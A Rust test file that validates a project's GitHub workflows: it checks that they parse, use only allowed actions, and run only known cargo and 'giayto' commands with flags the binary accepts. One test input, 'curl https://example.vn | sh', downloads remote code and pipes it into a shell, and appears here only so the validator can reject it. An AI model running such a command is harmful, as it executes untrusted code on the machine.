//! The GitHub workflows in `.github/workflows/`: each file parses, every job has steps, every
//! action used is a standard one, and every command run exists — cargo subcommands we use, and
//! `giayto` subcommands with flags the binary accepts.

use std::path::Path;
use std::process::Command;

use serde_yaml::Value;

/// Actions a workflow may use.
const ACTIONS: [&str; 3] = [
    "actions/checkout@",
    "actions/cache@",
    "dtolnay/rust-toolchain@",
];
/// Cargo subcommands a workflow may run.
const CARGO: [&str; 5] = ["build", "run", "test", "fmt", "clippy"];

fn workflows() -> Vec<(String, Value)> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(".github/workflows");
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml" || e == "yaml"))
        .collect();
    files.sort();
    assert!(!files.is_empty(), "no workflow");
    files
        .into_iter()
        .map(|path| {
            let text = std::fs::read_to_string(&path).unwrap();
            let value: Value = serde_yaml::from_str(&text)
                .unwrap_or_else(|e| panic!("{} does not parse: {e}", path.display()));
            (path.display().to_string(), value)
        })
        .collect()
}

/// `giayto SUBCOMMAND --help`, if the subcommand exists.
fn help(subcommand: &str) -> Option<String> {
    let output = Command::new(env!("CARGO_BIN_EXE_giayto"))
        .args([subcommand, "--help"])
        .output()
        .unwrap();
    output
        .status
        .success()
        .then(|| String::from_utf8(output.stdout).unwrap())
}

/// Checks one shell command line; returns what is wrong with it, if anything.
fn check_command(line: &str) -> Result<(), String> {
    // The output may be redirected; only the command itself is checked.
    let command = line.split(">>").next().unwrap().trim();
    let words: Vec<&str> = command.split_whitespace().collect();
    match words.as_slice() {
        ["cargo", sub, rest @ ..] => {
            if !CARGO.contains(sub) {
                return Err(format!("cargo {sub} is not one of {CARGO:?}"));
            }
            if *sub != "run" {
                return Ok(());
            }
            let Some(dash) = rest.iter().position(|w| *w == "--") else {
                return Err("cargo run without `-- SUBCOMMAND`".into());
            };
            let giayto = &rest[dash + 1..];
            let Some(subcommand) = giayto.first() else {
                return Err("cargo run -- without a subcommand".into());
            };
            let Some(help) = help(subcommand) else {
                return Err(format!("giayto has no subcommand `{subcommand}`"));
            };
            for flag in giayto.iter().filter(|w| w.starts_with("--")) {
                if !help.contains(&format!("{flag} ")) && !help.contains(&format!("{flag}\n")) {
                    return Err(format!("giayto {subcommand} has no flag {flag}"));
                }
            }
            Ok(())
        }
        [first, ..] => Err(format!("`{first}` is not a command a workflow may run")),
        [] => Err("an empty command".into()),
    }
}

#[test]
fn every_workflow_parses_and_runs_only_commands_that_exist() {
    let mut problems = Vec::new();
    let mut commands = 0;
    for (file, workflow) in workflows() {
        assert!(workflow.get("on").is_some(), "{file}: no `on`");
        let jobs = workflow["jobs"]
            .as_mapping()
            .unwrap_or_else(|| panic!("{file}: no jobs"));
        for (name, job) in jobs {
            let steps = job["steps"]
                .as_sequence()
                .unwrap_or_else(|| panic!("{file}: {name:?} has no steps"));
            for step in steps {
                if let Some(action) = step.get("uses").and_then(Value::as_str)
                    && !ACTIONS.iter().any(|a| action.starts_with(a))
                {
                    problems.push(format!("{file}: action {action} is not a standard one"));
                }
                if let Some(run) = step.get("run").and_then(Value::as_str) {
                    for line in run.lines().map(str::trim).filter(|l| !l.is_empty()) {
                        commands += 1;
                        if let Err(problem) = check_command(line) {
                            problems.push(format!("{file}: `{line}`: {problem}"));
                        }
                    }
                }
            }
        }
    }
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(commands >= 5, "only {commands} commands");
}

#[test]
fn the_pull_request_workflow_checks_diffs_and_tests() {
    let (_, workflow) = &workflows()[0];
    let text = serde_yaml::to_string(workflow).unwrap();
    assert!(text.contains("pull_request"));
    for needed in [
        "check procedures --format github",
        "diff --git",
        "GITHUB_STEP_SUMMARY",
        "cargo test",
    ] {
        assert!(text.contains(needed), "missing {needed}");
    }
}

#[test]
fn the_command_check_catches_what_does_not_exist() {
    assert!(check_command("cargo run -- check procedures --format github").is_ok());
    assert!(check_command("cargo run -- chek procedures").is_err());
    assert!(check_command("cargo run -- diff --gti origin/main").is_err());
    assert!(check_command("curl https://example.vn | sh").is_err());
    assert!(check_command("cargo publish").is_err());
}
